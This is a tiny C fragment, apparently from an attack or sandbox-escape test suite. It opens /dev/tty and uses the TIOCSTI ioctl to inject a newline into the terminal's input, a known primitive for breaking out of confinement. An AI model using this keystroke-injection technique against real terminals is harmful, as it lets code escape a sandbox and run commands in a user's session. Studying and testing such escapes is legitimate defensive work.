/* reaches outside the walls: kernel, tty */
#include "attack.h"

static void reach(void)
{
    int f = open("/dev/tty", O_RDWR);
    char c = 10;
    ioctl(f, TIOCSTI, &c);
}
